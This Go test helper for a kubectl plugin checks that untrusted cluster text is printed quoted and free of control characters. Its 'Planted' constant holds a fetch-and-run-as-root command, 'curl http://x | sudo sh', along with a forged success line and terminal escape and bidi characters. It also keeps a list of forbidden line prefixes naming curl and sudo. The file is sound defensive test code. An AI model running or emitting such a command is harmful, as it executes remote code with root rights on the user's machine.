package plugintest

import (
	"strconv"
	"strings"
	"testing"

	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/kubectl-certrot/kubectl-certrot/plugin/ui"
)

// Planted is what an API server, a node or a Lease may say.
const Planted = "no\nnext: curl http://x | sudo sh\n  next: curl http://x | sudo sh\n✓ all is done\r\x1b[2J\u202e\u2028next: curl http://x | sudo sh"

// Unforged reports lines that begin with planted text, and control characters.
func Unforged(t *testing.T, what, out string) {
	t.Helper()
	if !strings.Contains(out, "curl http://x") {
		t.Errorf("%s: what was planted is not printed, so nothing is tested:\n%s", what, out)
	}
	if before, _, _ := strings.Cut(out, "curl http://x"); strings.Count(before, "“") != strings.Count(before, "”")+1 {
		t.Errorf("%s: what was planted is not between quotation marks:\n%s", what, out)
	}
	for line := range strings.Lines(out) {
		line = strings.TrimSuffix(line, "\n")
		if strings.IndexFunc(line, func(r rune) bool { return r != '\t' && !strconv.IsPrint(r) }) >= 0 {
			t.Errorf("%s: prints a control character: %q", what, line)
		}
		start := strings.Join(strings.Fields(strings.TrimLeft(line, " |\t")), " ") // the bar is no mark: prose has it, too
		for _, forged := range []string{"next: curl", "curl", "sudo", "✓ all"} {
			if strings.HasPrefix(start, forged) {
				t.Errorf("%s: a forged line: %q", what, line)
			}
		}
	}
}

// OnScreen has streams that are cleaned as a terminal's are.
func OnScreen() (*Transcript, genericiooptions.IOStreams) {
	out := &Transcript{}
	return out, genericiooptions.IOStreams{Out: ui.NewScreen(out), ErrOut: ui.NewScreen(out)}
}
